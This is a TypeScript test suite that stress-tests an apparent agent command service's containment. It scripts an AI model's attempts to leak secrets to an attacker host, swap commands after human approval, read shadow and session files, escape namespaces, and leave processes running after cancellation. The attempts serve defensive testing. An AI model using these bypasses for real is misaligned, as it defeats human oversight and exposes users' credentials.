/** What the assistant tries. Each attempt says how its calls end; what it must not reach is checked for all of them. */
import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { attacks } from '../isolation/attacks.ts';
import type { Victim, World } from './world.ts';

export type Goal = 'a secret' | 'a change' | 'the vault' | 'a process' | 'an approval';

export interface Attempt {
  readonly name: string;
  readonly goal: Goal;
  run(world: World): Promise<unknown>;
  /** How its calls end, one after the other; `a|b` where that depends on the computer. */
  readonly ends: readonly string[];
}

let slugs = 0;
const OWN = 'the-assistants-own-3vXk';

/** Makes a machine at the attacker's host, and runs `true` there. */
const machine = (name: string, connection: object, ends: string[], more: object = {}, command = 'true'): Attempt => ({
  name,
  goal: 'a secret',
  ends,
  run: async ({ free, attacker }) => {
    await free.tool('synapse_put_secret', { name: 'OWN', value: OWN });
    const slug = `evil-${++slugs}`;
    const there = { host: '127.0.0.1', port: attacker.port, user: 'x', password_secret: 'OWN', ...connection };
    await free.tool('synapse_create_machine', { slug, kind: 'ssh', connection: there, ...more });
    await free.exec(slug, command);
  },
});

/** Changes the person's machine `home`, and uses it. The person undoes it. */
const repoint = (name: string, change: (world: World) => object): Attempt => ({
  name,
  goal: 'a secret',
  ends: ['ok', 'machine_unconfirmed', 'machine_unconfirmed'],
  run: async (world) => {
    const { free } = world;
    const { body: before } = await free.person('GET', '/synapse/machines/home');
    await free.tool('synapse_update_machine', { machine: 'home', ...change(world) });
    await free.exec('home', 'true');
    await free.exec('home', 'echo {{STRIPE}}');
    const body = { connection: before.connection, containers: [], sudo_secret: null };
    const undone = await free.person('PATCH', '/synapse/machines/home', body);
    const { version } = undone.body;
    await free.person('POST', '/synapse/machines/home/confirm', { version });
  },
});

const at = ({ host }: World, more: object = {}) => ({
  host: '127.0.0.1',
  port: host.port,
  user: 'me',
  password_secret: 'PASSWORD',
  ...more,
});

/** A value that the assistant may use comes back in another form. */
const told = (command: string, end = 'done'): Attempt => ({
  name: `telling: ${command}`,
  goal: 'a secret',
  ends: [end],
  run: ({ free, machine, onMachine }) => free.exec(machine, command, onMachine),
});

/** A value that is bound to curl on another machine, or to curl there. */
const bound = (command: (bin: string) => string, slug = 'billing'): Attempt => ({
  name: `bound, on ${slug}: ${command('BIN')}`,
  goal: 'a secret',
  ends: ['secret_not_here'],
  run: ({ free, scratch }) => {
    const bin = join(scratch, 'bin');
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, 'curl'), '#!/bin/sh\necho "$*" | cut -c 1-9\n');
    chmodSync(join(bin, 'curl'), 0o755);
    return free.exec(slug, command(bin), { cwd: bin });
  },
});

/** A change where a person is asked about every change. Nobody answers. */
const asked = (command: (mark: string) => string, end = 'pending', slug = 'prod'): Attempt => ({
  name: `on ${slug}: ${command('MARK')}`,
  goal: 'a change',
  ends: [end],
  run: async ({ guarded, mark }) => {
    const { result } = await guarded.exec(slug, command(mark()), { wait_seconds: 0 });
    if (result?.approval) await decide(guarded, result.approval.id, 'deny');
  },
});

const decide = (victim: Victim, id: string, decision: string, more: object = {}) =>
  victim.person('POST', `/synapse/approvals/${id}`, { decision, ...more });

const guarded = (name: string, ends: string[], run: (victim: Victim, world: World) => Promise<unknown>): Attempt => ({
  name,
  goal: 'a change',
  ends,
  run: (world) => run(world.guarded, world),
});

/** Something else is put in the place of what is asked about, before the person says yes. */
const swapped = (
  name: string,
  ends: string[],
  first: (world: World) => Promise<unknown>,
  order: (world: World) => Promise<{ readonly result: { approval: { id: string }; execution_id: string } }>,
  then: (world: World) => Promise<unknown>,
  answer = 409,
): Attempt => ({
  name,
  goal: 'an approval',
  ends,
  run: async (world) => {
    await first(world);
    const { result } = await order(world);
    await then(world);
    const decided = await decide(world.guarded, result.approval.id, 'approve');
    expect(decided.status, JSON.stringify(decided.body)).toBe(answer);
    const execution_id = result.execution_id;
    await world.guarded.tool('synapse_get_execution', { execution_id, wait_seconds: 20 });
  },
});

const vault = (name: string, ends: string[], run: (world: World) => Promise<unknown>): Attempt => ({
  name,
  goal: 'the vault',
  ends,
  run,
});

/** As another user, or behind a namespace. */
const UNREADABLE = 'file_not_found|file_forbidden';

let seconds = 0;
/** How many processes have this number among their arguments. */
const alive = (sleep: string): number =>
  readdirSync('/proc').filter((pid) => {
    try {
      return (
        /^\d+$/.test(pid) &&
        readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').slice(0, 2).join(' ') === `sleep ${sleep}`
      );
    } catch {
      return false;
    }
  }).length;

const newSleep = () => `${90_000 + process.pid}.${++seconds}`;

/** A process that is to outlive a deadline, and a cancellation. */
const hidden = (command: (sleep: string) => string): Attempt[] => {
  return [
    {
      name: `past its deadline: ${command('sleep N')}`,
      goal: 'a process',
      ends: ['timeout'],
      run: async ({ free, machine, onMachine }) => {
        const sleep = newSleep();
        await free.exec(machine, command(`sleep ${sleep}`), { ...onMachine, timeout_seconds: 1 });
        expect(alive(sleep)).toBe(0);
      },
    },
    {
      name: `past being cancelled: ${command('sleep N')}`,
      goal: 'a process',
      ends: ['running', 'cancelled'],
      run: async ({ free, machine, onMachine }) => {
        const sleep = newSleep();
        const { result } = await free.exec(machine, command(`sleep ${sleep}`), {
          ...onMachine,
          wait_seconds: 0,
          timeout_seconds: 60,
        });
        await expect.poll(() => alive(sleep)).toBeGreaterThan(0);
        await free.tool('synapse_cancel_execution', { execution_id: result.execution_id });
        expect(alive(sleep)).toBe(0);
      },
    },
  ];
};

const secrets: Attempt[] = [
  machine('a secret as password', { password_secret: 'STRIPE' }, ['ok', 'ok', 'machine_unconfirmed']),
  machine('the password of another machine', { password_secret: 'PASSWORD' }, ['ok', 'ok', 'machine_unconfirmed']),
  machine('a bound secret as password', { password_secret: 'BOUND' }, ['ok', 'ok', 'machine_unconfirmed']),
  machine('a secret as key', { password_secret: undefined, key_secret: 'STRIPE' }, ['ok', 'ok', 'machine_unconfirmed']),
  machine('a secret as passphrase', { password_secret: undefined, key_secret: 'OWN', passphrase_secret: 'STRIPE' }, [
    'ok',
    'ok',
    'machine_unconfirmed',
  ]),
  machine('the keys of the service’s agent', { password_secret: undefined, agent: true }, [
    'ok',
    'ok',
    'machine_unconfirmed',
  ]),
  machine(
    'a secret as answer for sudo',
    {},
    ['ok', 'ok', 'machine_unconfirmed'],
    { sudo_secret: 'STRIPE' },
    'sudo true',
  ),
  machine('a placeholder as user', { user: '{{STRIPE}}' }, ['ok', 'arguments_invalid', 'machine_not_found']),
  machine('a placeholder as host', { host: '{{STRIPE}}.test' }, ['ok', 'arguments_invalid', 'machine_not_found']),
  machine('a placeholder in a command', {}, ['ok', 'ok', 'machine_unconfirmed'], {}, 'echo {{STRIPE}}'),
  machine('a placeholder beside its own', {}, ['ok', 'ok', 'machine_unconfirmed'], {}, 'echo {{OWN}} {{STRIPE}}'),
  machine('a placeholder as input', {}, ['ok', 'ok', 'machine_unconfirmed'], {}, 'cat <<X\n{{STRIPE}}\nX'),
  machine(
    'a placeholder in a container',
    {},
    ['ok', 'ok', 'machine_unconfirmed'],
    { containers: ['a'], default_container: 'a' },
    'echo {{STRIPE}}',
  ),
  machine('a secret for a jump host', { jump: { host: '127.0.0.1', port: 1, user: 'x', password_secret: 'STRIPE' } }, [
    'ok',
    'ok',
    'machine_unconfirmed',
  ]),
  repoint('another port', (world) => ({ connection: at(world, { port: world.attacker.port }) })),
  repoint('another host', (world) => ({ connection: at(world, { host: 'localhost', port: world.attacker.port }) })),
  repoint('another user', (world) => ({ connection: at(world, { user: 'x' }) })),
  repoint('another secret', (world) => ({ connection: at(world, { password_secret: 'STRIPE' }) })),
  repoint('a jump host', (world) => ({
    connection: at(world, {
      jump: { host: '127.0.0.1', port: world.attacker.port, user: 'x', password_secret: 'PASSWORD' },
    }),
  })),
  repoint('another host key', (world) => ({ connection: at(world, { host_key: world.attacker.hostKey }) })),
  repoint('a list of containers', () => ({ containers: ['app'] })),
  repoint('a secret for sudo', () => ({ sudo_secret: 'STRIPE' })),
  {
    name: 'a machine made again under the name that a secret is bound to',
    goal: 'a secret',
    ends: ['ok', 'ok', 'machine_unconfirmed'],
    run: async ({ free }) => {
      await free.tool('synapse_delete_machine', { machine: 'other' });
      await free.tool('synapse_create_machine', { slug: 'other', kind: 'local' });
      await free.exec('other', 'echo {{STRIPE}}');
    },
  },
  {
    name: 'an agent of its own',
    goal: 'a secret',
    ends: ['ok', 'machine_unconfirmed'],
    run: async ({ free }) => {
      await free.tool('synapse_create_machine', { slug: 'own-agent', kind: 'agent' });
      await free.exec('own-agent', 'echo {{STRIPE}}');
    },
  },
  {
    name: 'a job, a file and many machines at its own host',
    goal: 'a secret',
    ends: ['ok', 'ok', 'machine_unconfirmed', 'machine_unconfirmed', 'ok', 'ok', 'machine_unconfirmed'],
    run: async ({ free, attacker }) => {
      await free.tool('synapse_put_secret', { name: 'OWN', value: OWN });
      const connection = { host: '127.0.0.1', port: attacker.port, user: 'x', password_secret: 'OWN' };
      await free.tool('synapse_create_machine', { slug: 'many', kind: 'ssh', connection });
      await free.exec('many', 'echo {{STRIPE}}', { detach: true });
      await free.tool('synapse_write_file', { machine: 'many', path: '/tmp/x', text: '{{STRIPE}}', secrets: true });
      await free.tool('synapse_exec_many', { machines: ['many', 'billing'], command: 'echo {{STRIPE}}' });
      await free.tool('synapse_put_alias', { code: 'qqq', command: 'echo {{STRIPE}}' });
      await free.exec('many', '@qqq');
    },
  },
  {
    name: 'a file that holds a value, read back in every way',
    goal: 'a secret',
    ends: ['ok', 'ok', 'done', 'ok', 'ok', 'ok'],
    run: async ({ free, scratch }) => {
      const path = join(scratch, 'held');
      await free.tool('synapse_write_file', { machine: 'local', path, text: 'a={{STRIPE}}\n', secrets: true });
      const { result } = await free.tool('synapse_read_file', { machine: 'local', path });
      const ran = await free.exec('local', `cat ${path}; base64 ${path}; rev ${path}`);
      const execution_id = ran.result.execution_id;
      await free.tool('synapse_get_output', { execution_id, offset: 0, limit: 7 });
      await free.tool('synapse_get_output', { execution_id, offset: 7, grep: 'sk_live' });
      const edits = [{ old: 'a=', new: 'b=' }];
      await free.tool('synapse_edit_file', { machine: 'local', path, expect: result.sha256, edits });
    },
  },
  {
    name: 'a placeholder while looking',
    goal: 'a secret',
    ends: ['placeholder_unsupported'],
    run: ({ free }) => free.tool('synapse_look', { machine: 'local', command: 'echo {{STRIPE}}' }),
  },
  {
    name: 'a placeholder as folder',
    goal: 'a secret',
    ends: ['cwd_not_found'],
    run: ({ free }) => free.exec('local', 'pwd', { cwd: '/{{STRIPE}}' }),
  },
  told('printf %s {{STRIPE}}'),
  told('printf %s {{STRIPE}} >&2'),
  told('printf %s {{STRIPE}} | base64'),
  told('printf %s {{STRIPE}} | base64 | base64'),
  told('printf %s {{STRIPE}} | od -An -tx1'),
  told('printf %s {{STRIPE}} | rev'),
  told('printf %s {{STRIPE}} | fold -w 1'),
  told('printf %s {{STRIPE}} | sed "s/./& /g"'),
  told('printf %s {{STRIPE}} | tr a-z A-Z'),
  told('printf %s {{STRIPE}} | gzip -c | base64'),
  told('set -x; : {{STRIPE}}'),
  told('V={{STRIPE}} env; set'),
  told('cat /{{STRIPE}}; cd /{{STRIPE}}'),
  told('{{STRIPE}}'),
  told('tr "\\0" "\\n" </proc/$$/environ; tr "\\0" " " </proc/$$/cmdline; : {{STRIPE}}'),
  told('eval echo {{STRIPE}}', 'placeholder_unsupported'),
  told('printf %s {{STRIPE}} | sh', 'placeholder_unsupported'),
  bound(() => 'echo {{BOUND}}'),
  bound(() => 'curl {{BOUND}}', 'local'),
  bound(() => 'x={{BOUND}}; z=${u?${x#?}}'),
  bound(() => 'case {{BOUND}} in b*) echo yes;; esac'),
  bound(() => 'set -x; curl {{BOUND}}'),
  bound(() => 'curl() { echo "$1"; }; curl {{BOUND}}'),
  bound((bin) => `${bin}/curl {{BOUND}}`),
  bound(() => './curl {{BOUND}}'),
  bound((bin) => `PATH=${bin} curl {{BOUND}}`),
  bound((bin) => `read PATH <<X\n${bin}\nX\ncurl {{BOUND}}`),
  bound(() => 'LD_PRELOAD=./x.so curl {{BOUND}}'),
  bound(() => 'curl -sw {{BOUND}} file:///dev/null | cut -c 1-5'),
  bound(() => '{ curl -sw {{BOUND}} file:///dev/null; } >got'),
  bound(() => 'curl -s --stderr got {{BOUND}}'),
  bound(() => 'xargs curl <<X\n{{BOUND}}\nX'),
];

const changes: Attempt[] = [
  asked((mark) => `touch ${mark}`),
  asked((mark) => `touch ${mark}`, 'policy_denied', 'shut'),
  asked((mark) => `touch ${mark}`, 'policy_denied', 'safe'),
  asked((mark) => `touch ${mark}`, 'policy_denied', 'seen'),
  asked((mark) => `touch ${mark}`, 'pending', 'asked'),
  asked((mark) => `t\\ouch ${mark}`),
  asked((mark) => `$(echo touch) ${mark}`),
  asked((mark) => `ls $(touch ${mark})`),
  asked((mark) => `cat <<X\n$(touch ${mark})\nX`),
  asked((mark) => `ls # x\ntouch ${mark}`),
  asked((mark) => `ls;\u2066touch ${mark}`),
  asked((mark) => `env -S 'touch ${mark}'`),
  asked((mark) => `nice timeout 5 touch ${mark}`),
  asked((mark) => `ls() { touch ${mark}; }; ls`),
  asked((mark) => `trap 'touch ${mark}' EXIT; ls`),
  asked((mark) => `awk 'BEGIN{system("touch ${mark}")}'`),
  asked((mark) => `sed -n 'w ${mark}' /etc/hosts`),
  asked((mark) => `sort -o ${mark} /etc/hosts`),
  asked((mark) => `find /etc/hosts -fprint ${mark}`),
  asked((mark) => `git diff --no-index --output=${mark} /etc/hosts /etc/passwd`),
  asked((mark) => `git -c core.pager='touch ${mark}' -p log`),
  asked((mark) => `GIT_EXTERNAL_DIFF='touch ${mark};' git diff --no-index /etc/hosts /etc/passwd`),
  asked((mark) => `echo 'touch ${mark}' | sh`),
  asked((mark) => `x='a[$(touch ${mark})]'; echo $((x))`),
  asked((mark) => `ls <>${mark}`),
  asked(() => 'cat /etc/shadow'),
  asked(() => 'xargs -a /etc/shadow echo'),
  asked(() => 'find /etc -name shadow | xargs cat'),
  asked(() => 'base64 ~/.config/synapse/session.json'),
  asked(() => 'cat ~/../srv/state/x', 'policy_denied', 'kept'),
  asked(() => 'cat /proc/self/root/srv/state/x', 'policy_denied', 'kept'),
  asked(() => 'cat /proc/self/cwd/srv/state/x', 'policy_denied', 'kept'),
  asked(() => 'xargs -a /srv/state/x echo', 'policy_denied', 'kept'),
  asked(() => 'cd /srv; cat ./stat[e]/../state/x', 'policy_denied', 'kept'),
  asked(() => 'cat "$(echo /srv/state)/x"', 'policy_denied', 'kept'),
  ...[
    'git -C /srv/state log',
    'git -C /srv show HEAD:state/x',
    'tar cf - -C /srv state',
    'cat /srv/sta{te,te}/x',
    'cat {/srv/state,}/x',
    `awk 'BEGIN { while ((getline l < "/srv/state/x") > 0) print l }'`,
    `python3 -c 'print(open("/srv/state/x").read())'`,
    'python3 <<X\nprint(open("/srv/state/x").read())\nX',
    'X=/srv/state/x python3 -c "import os; open(os.environ[\'X\'])"',
    'find /srv -name x',
    'ls -R /srv',
    'rsync -a / /tmp/z',
    'ln -s /srv/state/x /tmp/l',
    'cd /srv/state; make',
    'docker run -v /:/x alpine cat /x/srv/state/x',
  ].map((command) => asked(() => command, 'policy_denied', 'kept')),
  asked(() => 'echo {{STRIPE}}', 'policy_denied', 'kept'),
  guarded('an alias, looked at', ['ok', 'policy_denied|look_unavailable|done'], async (victim, { mark }) => {
    await victim.tool('synapse_put_alias', { code: 'lll', command: `touch ${mark()}` });
    await victim.tool('synapse_look', { machine: 'seen', command: '@lll' });
  }),
  guarded('an alias on many machines, as jobs', ['ok', 'policy_denied', 'ok'], async (victim, { mark }) => {
    await victim.tool('synapse_put_alias', { code: 'mmm', command: `touch ${mark()}` });
    await victim.exec('shut', '@mmm', { detach: true });
    await victim.tool('synapse_exec_many', { machines: ['shut', 'safe', 'seen'], command: '@mmm' });
  }),
  guarded(
    'a new machine of the same host, an alias and a file tool together',
    ['ok', 'ok', 'policy_denied', 'policy_denied', 'policy_denied'],
    async (victim, { mark }) => {
      const path = mark();
      await victim.tool('synapse_create_machine', { slug: 'beside', kind: 'local', default_cwd: '/' });
      await victim.tool('synapse_put_alias', { code: 'nnn', command: `touch ${path}` });
      await victim.exec('beside', '@nnn');
      await victim.tool('synapse_write_file', { machine: 'beside', path, text: 'x' });
      await victim.exec('beside', `touch ${path}`, { detach: true });
    },
  ),
  guarded(
    'a link to what is kept, and a file tool',
    ['done', 'policy_denied', 'policy_denied'],
    async (victim, world) => {
      const { scratch } = world;
      const link = join(scratch, 'to-kept');
      await victim.exec('unruled', `ln -sfn /etc ${link}`);
      await victim.tool('synapse_write_file', { machine: 'kept', path: `${link}/hosts`, text: 'x' });
      await victim.tool('synapse_read_file', { machine: 'kept', path: `${link}/hosts` });
    },
  ),
  guarded(
    'the execution of somebody else',
    ['execution_not_found', 'execution_not_found', 'execution_not_found'],
    async (victim, { free }) => {
      const { body } = await free.person('POST', '/synapse/exec', { machine: 'local', command: 'echo theirs' });
      const { execution_id } = body;
      expect(execution_id).toEqual(expect.any(String));
      await victim.tool('synapse_get_execution', { execution_id });
      await victim.tool('synapse_get_output', { execution_id });
      await victim.tool('synapse_cancel_execution', { execution_id });
    },
  ),
  guarded('a job', ['policy_denied'], (victim, { mark }) => victim.exec('shut', `touch ${mark()}`, { detach: true })),
  guarded('an alias that smuggles', ['ok', 'policy_denied'], async (victim, { mark }) => {
    await victim.tool('synapse_put_alias', { code: 'qqq', command: `touch ${mark()} {}` });
    await victim.exec('shut', '@qqq');
  }),
  guarded('many machines by a glob', ['ok'], (victim, { mark }) =>
    victim.tool('synapse_exec_many', { machines: ['sh*', 'saf?'], command: `touch ${mark()}` }),
  ),
  guarded('a file', ['policy_denied', 'policy_denied'], async (victim, { mark }) => {
    await victim.tool('synapse_write_file', { machine: 'shut', path: mark(), text: 'x' });
    await victim.tool('synapse_write_file', { machine: 'seen', path: mark(), text: 'x' });
  }),
  guarded('a change while looking', ['done|look_unavailable'], (victim, { mark }) =>
    victim.tool('synapse_look', { machine: 'unruled', command: `touch ${mark()}; echo x >${mark()}` }),
  ),
  guarded('a second name for the same host', ['ok', 'policy_denied'], async (victim, { mark }) => {
    await victim.tool('synapse_create_machine', { slug: 'prod-2', kind: 'local' });
    await victim.exec('prod-2', `touch ${mark()}`);
  }),
  guarded(
    'a name that the policy knows, removed and made again',
    ['policy_denied', 'policy_denied'],
    async (victim) => {
      await victim.tool('synapse_delete_machine', { machine: 'shut' });
      await victim.tool('synapse_create_machine', { slug: 'shut', kind: 'local' });
    },
  ),
  guarded('a tag shed, and a tag imitated', ['policy_denied', 'policy_denied'], async (victim) => {
    await victim.tool('synapse_update_machine', { machine: 'safe', tags: [] });
    await victim.tool('synapse_update_machine', { machine: 'unruled', tags: ['vault'] });
  }),
  guarded(
    'its token where a session belongs',
    ['pending', '401', '401', '401', '401', '401'],
    async (victim, { mark }) => {
      const { result } = await victim.exec('asked', `touch ${mark()}`, { wait_seconds: 0 });
      await victim.rest('POST', `/synapse/approvals/${result.approval.id}`, { decision: 'approve' });
      await victim.rest('PUT', '/synapse/policy', { text: 'version: 1\n' });
      await victim.rest('POST', '/tda/ai/tokens', {});
      await victim.rest('POST', '/synapse/machines/prod-2/confirm', { version: 1 });
      await victim.rest('GET', '/synapse/secrets');
      await decide(victim, result.approval.id, 'deny');
    },
  ),
  guarded(
    'the key of an approved order for another one',
    ['pending', 'done', 'idempotency_mismatch'],
    async (victim, { mark }) => {
      const key = { wait_seconds: 0, idempotency_key: 'the-same' };
      const { result } = await victim.exec('asked', 'echo fine', key);
      await decide(victim, result.approval.id, 'approve');
      await victim.tool('synapse_get_execution', { execution_id: result.execution_id, wait_seconds: 20 });
      await victim.exec('asked', `touch ${mark()}`, key);
    },
  ),
];

const approvals: Attempt[] = [
  swapped(
    'the command behind an alias',
    ['ok', 'pending', 'ok', 'refused'],
    ({ guarded }) => guarded.tool('synapse_put_alias', { code: 'zzz', command: 'echo fine' }),
    ({ guarded }) => guarded.exec('asked', '@zzz', { wait_seconds: 0 }),
    ({ guarded, mark }) => guarded.tool('synapse_put_alias', { code: 'zzz', command: `touch ${mark()}` }),
  ),
  swapped(
    'the value of a secret of its own',
    ['ok', 'pending', 'ok', 'refused'],
    ({ guarded, scratch }) => guarded.tool('synapse_put_secret', { name: 'OWN', value: `${scratch}/fine` }),
    ({ guarded }) => guarded.exec('asked', 'touch {{OWN}}', { wait_seconds: 0 }),
    ({ guarded, mark }) => guarded.tool('synapse_put_secret', { name: 'OWN', value: mark() }),
  ),
  swapped(
    'the folder of the machine',
    ['ok', 'pending', 'ok', 'refused'],
    ({ guarded, scratch }) => guarded.tool('synapse_update_machine', { machine: 'asked', default_cwd: scratch }),
    ({ guarded }) => guarded.exec('asked', 'pwd', { wait_seconds: 0, cwd: undefined }),
    ({ guarded }) => guarded.tool('synapse_update_machine', { machine: 'asked', default_cwd: '/tmp' }),
  ),
  {
    name: 'a value of its own, after the text was approved for good',
    goal: 'an approval',
    ends: ['ok', 'pending', 'done', 'ok', 'pending'],
    run: async ({ guarded, scratch, mark }) => {
      await guarded.tool('synapse_put_secret', { name: 'OWN', value: `${scratch}/fine` });
      const order = () => guarded.exec('asked', 'touch  {{OWN}}', { wait_seconds: 0 });
      const { result } = await order();
      await decide(guarded, result.approval.id, 'approve', { for: 'template' });
      await guarded.tool('synapse_get_execution', { execution_id: result.execution_id, wait_seconds: 20 });
      await guarded.tool('synapse_put_secret', { name: 'OWN', value: mark() });
      await decide(guarded, (await order()).result.approval.id, 'deny');
    },
  },
  {
    name: 'a link in the place of a file, by a machine of the same host',
    goal: 'an approval',
    ends: ['done', 'approval_stale'],
    run: async (world) => {
      const { guarded, scratch, mark } = world;
      const [path, elsewhere] = [join(scratch, `new-file-${++slugs}`), mark()];
      const writing = guarded.tool('synapse_write_file', { machine: 'asked', path, text: 'x' });
      const pending = async () => (await guarded.person('GET', '/synapse/approvals?status=pending')).body.approvals;
      await expect.poll(pending).toHaveLength(1);
      const [{ id }] = await pending();
      await guarded.exec('unruled', `ln -s ${elsewhere} ${path}`);
      expect((await decide(guarded, id, 'approve')).status).toBe(409);
      await writing;
    },
  },
  {
    name: 'an alias changed at the moment of approval',
    goal: 'an approval',
    ends: ['ok', 'pending', 'ok', 'refused|done'],
    run: async ({ guarded, mark }) => {
      await guarded.tool('synapse_put_alias', { code: 'rrr', command: 'echo fine' });
      const { result } = await guarded.exec('asked', '@rrr', { wait_seconds: 0 });
      await Promise.all([
        guarded.tool('synapse_put_alias', { code: 'rrr', command: `touch ${mark()}` }),
        decide(guarded, result.approval.id, 'approve'),
      ]);
      const { execution_id } = result;
      const ended = await guarded.tool('synapse_get_execution', { execution_id, wait_seconds: 20 });
      if (ended.result.status === 'done') expect(ended.result.stdout).toBe('fine\n');
    },
  },
  {
    name: 'an order cancelled while it is approved',
    goal: 'an approval',
    ends: ['pending', 'cancelled'],
    run: async ({ guarded, mark }) => {
      const { result } = await guarded.exec('asked', `touch ${mark()}`, { wait_seconds: 0 });
      await guarded.tool('synapse_cancel_execution', { execution_id: result.execution_id });
      expect((await decide(guarded, result.approval.id, 'approve')).status).toBe(409);
    },
  },
  {
    name: 'one approval, decided ten times at once',
    goal: 'an approval',
    ends: ['pending', 'done'],
    run: async ({ guarded, scratch }) => {
      const { result } = await guarded.exec('asked', `echo ran >>${scratch}/once`, { wait_seconds: 0 });
      await Promise.all(Array.from({ length: 10 }, () => decide(guarded, result.approval.id, 'approve')));
      await guarded.tool('synapse_get_execution', { execution_id: result.execution_id, wait_seconds: 20 });
      expect(readFileSync(`${scratch}/once`, 'utf8')).toBe('ran\n');
    },
  },
  {
    name: 'what the person is shown is all of it',
    goal: 'an approval',
    ends: ['ok', 'pending'],
    run: async ({ guarded, mark }) => {
      const command = `echo fine${'\n'.repeat(60)}touch ${mark()}`;
      await guarded.tool('synapse_update_machine', { machine: 'asked', label: 'a playground' });
      const { result } = await guarded.exec('asked', command, { wait_seconds: 0 });
      const { body } = await guarded.person('GET', `/synapse/approvals/${result.approval.id}`);
      expect(body).toMatchObject({ machine: 'asked', command_template: command });
      expect(body.reason).toContain('touch');
      await decide(guarded, result.approval.id, 'deny');
    },
  },
];

const vaults: Attempt[] = [
  ...[
    'the data directory',
    'the session of the command line',
    'the file of a setting',
    'hard and symbolic links',
    'its own root',
    'the environment of the service',
    'what the service has open',
    'the root and the folder of the service',
    'the memory of the service',
    'leaving the namespace',
    'a namespace of its own',
    'moving a folder above',
    'a process left behind',
    'the disks',
  ].map((name) =>
    vault(name, ['done'], async ({ free, prey }) => {
      const { result } = await free.exec('local', attacks(prey)[name]!);
      expect(result.stdout).not.toMatch(/attach 0|^mem |DISK-READ|master\.key|synapse\.db/m);
    }),
  ),
  vault('the file tools', [UNREADABLE, UNREADABLE, UNREADABLE], async ({ free, prey }) => {
    for (const path of [`${prey.dataDir}/planted`, `${prey.settings}/session.json`, `/proc/${prey.pid}/environ`])
      await free.tool('synapse_read_file', { machine: 'local', path });
  }),
  vault('a file tool through a link', [UNREADABLE], async ({ free, prey, scratch }) => {
    symlinkSync(prey.dataDir, join(scratch, 'link'));
    await free.tool('synapse_read_file', { machine: 'local', path: join(scratch, 'link/planted') });
  }),
  vault('looking', ['done|look_unavailable'], ({ free, prey }) =>
    free.tool('synapse_look', {
      machine: 'local',
      command: `cat ${prey.dataDir}/* ${prey.settings}/* /proc/${prey.pid}/environ`,
    }),
  ),
  vault('a job', ['running', 'done'], async ({ free, prey }) => {
    const command = `cat ${prey.dataDir}/* ${prey.settings}/* /proc/${prey.pid}/environ; true`;
    const { result } = await free.exec('local', command, { detach: true });
    await free.tool('synapse_get_execution', { execution_id: result.execution_id, wait_seconds: 60 });
  }),
  vault('a machine of its own on the service’s host', ['ok', 'done'], async ({ free, prey }) => {
    await free.tool('synapse_create_machine', { slug: 'here', kind: 'local', default_cwd: '/' });
    await free.exec('here', `cat ${prey.dataDir}/* ${prey.settings}/* /proc/${prey.pid}/environ`);
  }),
];

const processes: Attempt[] = [
  hidden((sleep) => sleep),
  hidden((sleep) => `trap '' HUP INT TERM; ${sleep} & wait`),
  hidden((sleep) => `nohup ${sleep} >/dev/null 2>&1 & sleep 60`),
  hidden((sleep) => `env -i setsid ${sleep} & sleep 60`),
  hidden((sleep) => `( ( exec env -i setsid ${sleep} >/dev/null 2>&1 & ) & ); sleep 60`),
  hidden((sleep) => `trap '${sleep}' EXIT; ${sleep}`),
  hidden((sleep) => `( trap '' TERM HUP; while :; do ${sleep}; done ) & sleep 60`),
  hidden((sleep) => `sh -c '${sleep} & ${sleep}' & wait`),
  [
    {
      name: 'a job that is cancelled, with what it left in the background',
      goal: 'a process' as const,
      ends: ['running', 'cancelled|running'],
      run: async ({ free, machine, onMachine }: World) => {
        const sleep = newSleep();
        const command = `env -i setsid sleep ${sleep} & trap '' TERM; sleep ${sleep}`;
        const { result } = await free.exec(machine, command, { ...onMachine, detach: true });
        await expect.poll(() => alive(sleep)).toBeGreaterThan(1);
        await free.tool('synapse_cancel_execution', { execution_id: result.execution_id });
        await expect.poll(() => alive(sleep)).toBe(0);
      },
    },
  ],
].flat();

/** What has to hold wherever a command runs. */
export const ON_ANY_MACHINE: readonly Attempt[] = [
  ...secrets.filter(({ name }) => name.startsWith('telling: ')),
  ...processes,
];

export const ATTEMPTS: readonly Attempt[] = [...secrets, ...changes, ...approvals, ...vaults, ...processes];
